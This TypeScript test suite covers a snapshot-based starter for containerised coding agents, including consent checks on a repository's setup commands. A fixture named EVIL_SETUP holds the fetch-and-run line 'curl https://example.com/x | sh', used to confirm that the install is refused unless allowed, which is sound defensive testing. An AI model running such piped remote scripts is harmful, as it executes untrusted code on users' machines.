import assert from 'node:assert/strict';
import { readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { describe, it } from 'node:test';
import { STATE_FILE } from '../../src/core/agent';
import type { StartPlan } from '../../src/core/create/agentStarter';
import { DELTA_PATH, SnapshotStarter } from '../../src/core/create/snapshotStarter';
import { CancelledError, CreateFailedError, PoolError, SetupNotAllowedError } from '../../src/core/errors';
import type { ResolvedBase } from '../../src/core/git/objectPool';
import { silentLogger } from '../../src/core/logger';
import { ReadyStates } from '../../src/core/readyStates';
import { refuseSetup, type SetupProposal } from '../../src/core/setup/setupProposal';
import { MemoryEngine, MemoryPool, MemorySnapshots, snapshotOf } from '../support/memoryEngine';

const REPO = 'git://server/repo.git';

/** A consent that says `answer` and records what it was asked. */
function consentRecording(answer: boolean) {
  const asked: SetupProposal[] = [];
  return { asked, consent: async (proposal: SetupProposal) => (asked.push(proposal), answer) };
}

const EVIL_SETUP = JSON.stringify({ install: 'curl https://example.com/x | sh', copy: ['notes.txt'] });

function plan(id = 'a1'): StartPlan {
  return {
    id,
    repoUrl: REPO,
    baseBranch: '',
    image: 'img',
    strategy: 'snapshot',
    gitIdentity: { name: 'N', email: 'n@example.com' },
    limits: { memoryBytes: 256 * 1024 ** 2, cpus: 1, pids: 64 },
    network: 'net-gitiso',
    request: { id, repoUrl: REPO },
    report: () => undefined,
    consent: refuseSetup,
  };
}

function setup(options: { known?: ResolvedBase; fetched: ResolvedBase; snapshots?: MemorySnapshots }) {
  const engine = new MemoryEngine();
  const pool = new MemoryPool(options.known, options.fetched);
  const snapshots = options.snapshots ?? new MemorySnapshots();
  const states = new ReadyStates(engine);
  const starter = new SnapshotStarter({ engine, pool, snapshots, states, log: silentLogger, setupSettings: {} });
  return { engine, pool, snapshots, states, starter };
}

function deltaFolders(): string[] {
  return readdirSync(tmpdir()).filter((name) => name.startsWith('gitiso-delta-'));
}

const main = (commit: string): ResolvedBase => ({ branch: 'main', commit });

/** Waits (up to a second) until `condition` holds. */
async function waitFor(condition: () => boolean): Promise<void> {
  for (let waited = 0; !condition(); waited += 2) {
    assert.ok(waited < 1_000, 'timed out waiting');
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
}

describe('SnapshotStarter', () => {
  it('starts an agent from the snapshot of its base commit with no delta, and remembers it ready', async () => {
    const { engine, states, starter } = setup({ fetched: main('c1'), snapshots: new MemorySnapshots([snapshotOf('c1')]) });
    await starter.start(plan());
    const [container] = [...engine.containers.values()];
    assert.ok(container);
    assert.equal(container.options.Image, 'gitiso-snapshot:k-c1');
    assert.equal(container.options.name, 'gitiso-a1');
    assert.equal(container.options.HostConfig?.NetworkMode, 'net-gitiso', 'the agent joins the network its plan was given');
    assert.ok(!container.files.has(DELTA_PATH), 'no bundle went in');
    assert.equal(states.known(container.id)?.baseCommit, 'c1');
    assert.deepEqual(engine.announced, [container.id]);
    assert.deepEqual(engine.execs, [], 'booting needs no exec');
  });

  it('sends the commits an older snapshot lacks as a bundle, and removes the bundle from the host', async () => {
    const before = deltaFolders();
    const { engine, pool, snapshots, starter } = setup({ fetched: main('c2'), snapshots: new MemorySnapshots([snapshotOf('old1')]) });
    await starter.start(plan());
    const [container] = [...engine.containers.values()];
    assert.equal(container?.options.Image, 'gitiso-snapshot:k-old1');
    assert.equal(container?.files.get(DELTA_PATH)?.toString(), 'bundle of c2');
    assert.deepEqual(pool.bundles[0], { commit: 'c2', exclude: 'old1' });
    assert.deepEqual([...new Set(snapshots.refreshed)], ['c2'], 'the snapshot of the new commit is built in the background');
    assert.deepEqual(deltaFolders(), before);
  });

  it('looks for the snapshot with the coding agent\'s install, and starts the next one with it too', async () => {
    const { snapshots, starter } = setup({ fetched: main('c2'), snapshots: new MemorySnapshots([snapshotOf('old1')]) });
    const keys: string[] = [];
    const find = snapshots.find.bind(snapshots);
    snapshots.find = async (repo, image, commit, setupKey = '') => (keys.push(setupKey), find(repo, image, commit));
    await starter.start(plan());
    await starter.start({ ...plan('a2'), request: { id: 'a2', repoUrl: REPO, toolInstall: { preset: 'mine', command: 'pip install mine' } } });
    const [first, last] = [keys[0], keys[keys.length - 1]];
    assert.equal(first, '', 'without a task: the repository\'s snapshot');
    assert.ok(last, 'with one: a snapshot of its own');
    await waitFor(() => snapshots.tools.has('c2') && snapshots.tools.get('c2') !== undefined);
    assert.equal(snapshots.tools.get('c2'), 'pip install mine', 'the background snapshot of the new commit installs the tool as well');
  });

  it('catches up when the pool fetch finds the base moved on while the agent started', async () => {
    const { engine, states, starter } = setup({ known: main('c1'), fetched: main('c3'), snapshots: new MemorySnapshots([snapshotOf('c1')]) });
    await starter.start(plan());
    const [container] = [...engine.containers.values()];
    assert.equal(engine.execs.length, 1, 'one exec brings the agent to the fetched commit');
    assert.ok(engine.execs[0]?.argv.includes('c3'));
    assert.equal(states.known(container?.id ?? '')?.baseCommit, 'c3');
  });

  it('removes the container when the boot fails, and leaves no bundle on the host', async () => {
    const before = deltaFolders();
    const { engine, starter } = setup({ known: main('c2'), fetched: main('c2'), snapshots: new MemorySnapshots([snapshotOf('old1')]) });
    engine.bootOutput = 'gitiso-failed\n';
    await assert.rejects(starter.start(plan()), CreateFailedError);
    assert.equal(engine.containers.size, 0);
    assert.equal(engine.removed.length, 1);
    assert.deepEqual(deltaFolders(), before);
  });

  it('removes the container when the catch-up fails, and writes no ready state', async () => {
    const { engine, states, starter } = setup({ known: main('c1'), fetched: main('c3'), snapshots: new MemorySnapshots([snapshotOf('c1')]) });
    engine.onExec = () => ({ exitCode: 1, stdout: '', stderr: 'fatal: bad object' });
    await assert.rejects(starter.start(plan()), /could not bring gitiso\/a1 to c3/);
    const removed = engine.removed[0] ?? '';
    assert.equal(engine.containers.size, 0);
    assert.equal(states.known(removed), undefined);
  });

  it('chooses again once when the snapshot was pruned between choosing and using it', async () => {
    const snapshots = new MemorySnapshots([snapshotOf('c1')]);
    const { engine, starter } = setup({ fetched: main('c1'), snapshots });
    // Another process pruned the image after it was found: the second look finds nothing and builds it again.
    engine.missingImages.add('gitiso-snapshot:k-c1');
    let finds = 0;
    snapshots.find = async () => (finds++ === 0 ? snapshotOf('c1') : undefined);
    snapshots.ensure = async ({ base }) => {
      snapshots.built.push(base.commit);
      return { ...snapshotOf(base.commit), image: 'gitiso-snapshot:rebuilt' };
    };
    await starter.start(plan());
    assert.deepEqual(snapshots.built, ['c1']);
    assert.equal([...engine.containers.values()][0]?.options.Image, 'gitiso-snapshot:rebuilt');
  });

  it('never writes a state file into the container itself: the boot does', async () => {
    const { engine, starter } = setup({ fetched: main('c1'), snapshots: new MemorySnapshots([snapshotOf('c1')]) });
    await starter.start(plan());
    assert.ok(![...engine.containers.values()][0]?.files.has(STATE_FILE));
  });
  it('refuses a repository install and copy that are not allowed, before any snapshot or container', async () => {
    const { engine, pool, snapshots, starter } = setup({ fetched: main('c1') });
    pool.tree = () => ({ '.gitiso.json': EVIL_SETUP });
    const { asked, consent } = consentRecording(false);
    await assert.rejects(starter.start({ ...plan(), consent, request: { id: 'a1', repoUrl: REPO, copyFrom: '/home/me/repo' } }), (error: unknown) => {
      assert.ok(error instanceof SetupNotAllowedError);
      assert.match(error.message, /run 'curl https:\/\/example\.com\/x \| sh' and copy "notes\.txt"/);
      assert.match(error.message, /--trust-setup/);
      return true;
    });
    assert.deepEqual(asked.map((p) => [p.install, p.copy, p.fileId.startsWith('blob-')]), [['curl https://example.com/x | sh', ['notes.txt'], true]]);
    assert.deepEqual(snapshots.built, [], 'no snapshot was built');
    assert.equal(engine.containers.size, 0, 'no container is left');
    assert.deepEqual(engine.transfers, [], 'nothing of the repository went into a container');
  });

  it('builds the snapshot with the install once it is allowed; files to copy are asked only with a folder', async () => {
    const { pool, snapshots, starter } = setup({ fetched: main('c1') });
    pool.tree = () => ({ '.gitiso.json': EVIL_SETUP });
    const { asked, consent } = consentRecording(true);
    await starter.start({ ...plan(), consent });
    assert.equal(snapshots.installs.get('c1'), 'curl https://example.com/x | sh');
    assert.deepEqual(asked[0]?.copy, [], 'no folder, no copy asked');
  });

  it('never builds a background snapshot with a changed setup file the user has not allowed, and does not ask', async () => {
    const { snapshots, pool, starter } = setup({ known: main('c1'), fetched: main('c3'), snapshots: new MemorySnapshots([snapshotOf('c1')]) });
    pool.tree = (commit) => ({ '.gitiso.json': JSON.stringify({ install: commit === 'c1' ? 'npm ci' : 'curl https://example.com/x | sh' }) });
    const { asked, consent } = consentRecording(true);
    await starter.start({ ...plan(), consent });
    await new Promise((resolve) => setTimeout(resolve, 20));
    assert.equal(asked.length, 1, 'only the agent\'s own setup was asked');
    assert.ok(!snapshots.refreshed.includes('c3'), 'a snapshot with the unallowed install was started');
  });

  it('builds the background snapshot when the setup file is the one allowed', async () => {
    const { snapshots, pool, starter } = setup({ known: main('c1'), fetched: main('c3'), snapshots: new MemorySnapshots([snapshotOf('c1')]) });
    pool.tree = () => ({ '.gitiso.json': JSON.stringify({ install: 'npm ci' }) });
    await starter.start({ ...plan(), consent: consentRecording(true).consent });
    await new Promise((resolve) => setTimeout(resolve, 20));
    assert.equal(snapshots.installs.get('c3'), 'npm ci');
  });

  describe('the first agent of a repository the pool had never seen', () => {
    const objects = [{ hostPath: __filename, name: 'pack/pack-1.pack', size: 1 }];

    it('starts from the agents\' image with the pool\'s objects and makes its own clone, then builds the snapshot in the background', async () => {
      const { engine, pool, snapshots, states, starter } = setup({ fetched: main('c1') });
      pool.objects = objects;
      await starter.start(plan());
      const [container] = [...engine.containers.values()];
      assert.ok(container);
      assert.equal(container.options.Image, 'img', 'no snapshot was waited for');
      assert.ok(container.files.has('/tmp/gitiso-objects/pack/pack-1.pack'), 'the pool\'s objects went in as they are');
      const cmd = container.options.Cmd ?? [];
      assert.deepEqual(cmd.slice(-2), ['/tmp/gitiso-objects', REPO], 'the boot makes the clone from them, with origin the real URL');
      assert.ok(cmd.includes('gitiso/a1'), 'and the session branch');
      const [branch, commit, state] = container.files.get('/tmp/gitiso-objects/.base')?.toString().split('\n') ?? [];
      assert.deepEqual([branch, commit, JSON.parse(state ?? '{}').baseCommit], ['main', 'c1', 'c1'], 'at the base, which came with the objects');
      assert.ok(!cmd.includes('c1'), 'not in its command: the container was made before the base was known');
      assert.equal(states.known(container.id)?.baseCommit, 'c1');
      assert.deepEqual(engine.announced, [container.id]);
      assert.deepEqual(snapshots.built, [], 'no build before the agent is ready');
      assert.deepEqual(snapshots.refreshed, ['c1'], 'the snapshot follows, for the agents after it');
    });

    it('starts the same way when the pool knows the repository but this engine has no snapshot of it (another engine\'s, or pruned)', async () => {
      const { engine, pool, snapshots, starter } = setup({ known: main('c1'), fetched: main('c2') });
      pool.objects = objects;
      await starter.start(plan());
      const [container] = [...engine.containers.values()];
      assert.equal(container?.options.Image, 'img', 'no snapshot build was waited for');
      assert.equal(container.files.get('/tmp/gitiso-objects/.base')?.toString().split('\n')[1], 'c2', 'at the base the fetch found');
      assert.deepEqual(snapshots.built, []);
      assert.deepEqual(snapshots.refreshed, ['c2']);
    });

    it('builds the snapshot first when the repository has an install (it runs there, once)', async () => {
      const { engine, pool, snapshots, starter } = setup({ fetched: main('c1') });
      pool.objects = objects;
      pool.tree = () => ({ '.gitiso.json': JSON.stringify({ install: 'npm ci' }) });
      await starter.start({ ...plan(), consent: consentRecording(true).consent });
      assert.deepEqual(snapshots.built, ['c1']);
      const containers = [...engine.containers.values()];
      assert.deepEqual(containers.map((c) => c.options.Image), ['gitiso-snapshot:k-c1']);
      assert.equal(engine.removed.length, 1, 'the container begun while the pool mirrored went');
      assert.ok(!engine.transfers.includes(engine.removed[0] ?? ''), 'and got nothing of the repository');
    });

    it('waits for the snapshot when the create asks for a coding agent\'s install: it is installed there, once, for the task\'s agents', async () => {
      const { engine, pool, snapshots, starter } = setup({ fetched: main('c1') });
      pool.objects = objects;
      const tool = { preset: 'mine', command: 'npm install -g my-agent' };
      await Promise.all(['a1', 'a2'].map((id) => starter.start({ ...plan(id), request: { id, repoUrl: REPO, toolInstall: tool } })));
      assert.deepEqual([...new Set(snapshots.built)], ['c1'], 'both wait for a build (the store shares one)');
      assert.equal(snapshots.tools.get('c1'), tool.command);
      assert.deepEqual([...engine.containers.values()].map((c) => c.options.Image), ['gitiso-snapshot:k-c1', 'gitiso-snapshot:k-c1']);
      assert.deepEqual(engine.removed, [], 'no container was begun for an own clone');
      assert.deepEqual(engine.transfers, []);
    });

    it('starts from a snapshot of the base that exists already (another process made it), removing the container it had begun', async () => {
      const { engine, pool, snapshots, starter } = setup({ fetched: main('c1'), snapshots: new MemorySnapshots([snapshotOf('c1')]) });
      pool.objects = objects;
      await starter.start(plan());
      assert.deepEqual([...engine.containers.values()].map((c) => c.options.Image), ['gitiso-snapshot:k-c1']);
      assert.deepEqual(snapshots.built, []);
      assert.deepEqual(engine.transfers, []);
    });

    it('creates and starts its container while the pool still mirrors the repository', async () => {
      const { engine, pool, starter } = setup({ fetched: main('c1') });
      pool.objects = objects;
      let mirrored = (): void => undefined;
      pool.onSync = () => new Promise<void>((resolve) => (mirrored = resolve));
      const started = starter.start(plan());
      await waitFor(() => [...engine.containers.values()].some((c) => c.running));
      assert.deepEqual(engine.transfers, [], 'its objects wait for the mirror');
      mirrored();
      await started;
      const [container] = [...engine.containers.values()];
      assert.ok(container?.files.has('/tmp/gitiso-objects/pack/pack-1.pack'));
      assert.deepEqual(engine.announced, [container?.id]);
    });

    it('leaves nothing when the repository cannot be mirrored (the attacker\'s remote fails the clone)', async () => {
      const { engine, pool, states, snapshots, starter } = setup({ fetched: main('c1') });
      pool.objects = objects;
      pool.onSync = async () => {
        await new Promise((resolve) => setTimeout(resolve, 5));
        throw new PoolError('could not fetch git://server/repo.git: fatal: protocol error: bad pack header');
      };
      await assert.rejects(starter.start(plan()), PoolError);
      assert.equal(engine.containers.size, 0, 'the container begun meanwhile went');
      assert.equal(engine.removed.length, 1);
      assert.deepEqual(engine.transfers, []);
      assert.equal(states.known(engine.removed[0] ?? ''), undefined);
      assert.deepEqual(snapshots.refreshed, [], 'no snapshot of it is started');
    });

    it('leaves nothing when it is cancelled while the pool mirrors, even though the mirror goes on for another create', async () => {
      const { engine, pool, starter } = setup({ fetched: main('c1') });
      pool.objects = objects;
      let mirrored = (): void => undefined;
      pool.onSync = () => new Promise<void>((resolve) => (mirrored = resolve));
      const cancel = new AbortController();
      const first = starter.start({ ...plan('a1'), signal: cancel.signal });
      const other = starter.start(plan('a2'));
      await waitFor(() => [...engine.containers.values()].some((c) => c.running));
      cancel.abort();
      await assert.rejects(first, CancelledError);
      assert.deepEqual([...engine.containers.values()].map((c) => c.options.name), [], 'the cancelled agent\'s container went');
      mirrored();
      await other;
      assert.deepEqual([...engine.containers.values()].map((c) => c.options.name), ['gitiso-a2'], 'the other create goes on');
      assert.deepEqual(engine.transfers, [], 'the other create started from a snapshot, not a clone of its own');
    });

    it('makes one clone of its own only: creates of the same commit meanwhile share one snapshot build', async () => {
      const { engine, pool, snapshots, starter } = setup({ fetched: main('c1') });
      pool.objects = objects;
      await Promise.all([starter.start(plan('a1')), starter.start(plan('a2')), starter.start(plan('a3'))]);
      const images = [...engine.containers.values()].map((c) => c.options.Image).sort();
      assert.deepEqual(images, ['gitiso-snapshot:k-c1', 'gitiso-snapshot:k-c1', 'img']);
      assert.deepEqual(snapshots.built, ['c1', 'c1'], 'both waited for the snapshot (the store shares one build between them)');
    });

    it('leaves nothing when its boot fails', async () => {
      const { engine, pool, starter } = setup({ fetched: main('c1') });
      pool.objects = objects;
      engine.bootOutput = 'gitiso-failed\n';
      await assert.rejects(starter.start(plan()), CreateFailedError);
      assert.equal(engine.containers.size, 0);
    });
  });
});
